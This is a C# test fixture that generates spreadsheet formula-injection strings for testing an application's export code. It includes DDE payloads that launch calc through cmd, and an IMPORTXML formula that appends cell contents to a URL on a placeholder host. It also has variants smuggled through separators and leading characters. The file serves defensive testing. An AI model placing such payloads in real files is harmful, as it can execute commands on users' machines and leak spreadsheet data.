namespace Laras.Web.Tests.Storage.Exports;

/// <summary>Texts that a spreadsheet of some country, version or setting could take for a formula; all made here.</summary>
internal static class HostileText
{
    private static readonly string[] Bodies =
    [
        "1+1",
        "SUM(A1:A9)",
        "HYPERLINK(\"http://contoh.invalid\";\"Slip\")",
        "cmd|' /C calc'!A0",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "IMPORTXML(CONCAT(\"http://contoh.invalid/\";A1);\"//a\")",
        "@SUM(1)",
        "-2+3",
        "'Lembar 1'!A1",
        "{1;2}",
    ];

    private static readonly string[] Starters = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r="];

    /// <summary>What may stand before the sign and be dropped by the program that opens the file.</summary>
    private static readonly string[] Fronts = ["", " ", "\u00A0", "\u200B", "\uFEFF", "'", "''", "\u0001"];

    public static IEnumerable<string> Formulas =>
        from front in Fronts
        from starter in Starters
        from body in Bodies
        select front + starter + body;

    /// <summary>A formula that would begin in the middle, if the reader took another sign for the end of a cell.</summary>
    public static IEnumerable<string> InTheMiddle =>
        from separator in new[] { ";", ",", "\t", "|", "\n", "\r\n", "\";\"", "\",\"" }
        from starter in Starters
        select $"Adi{separator}{starter}1+1";

    public static IEnumerable<string> Strange =>
        [
            "<b>&amp;]]>",
            "_x000D_",
            "_x0041_",
            "baris\nbaru",
            "petik \" dua",
            "😀 Ruséf",
            "\u202Eterbalik",
            " berjarak ",
        ];
}
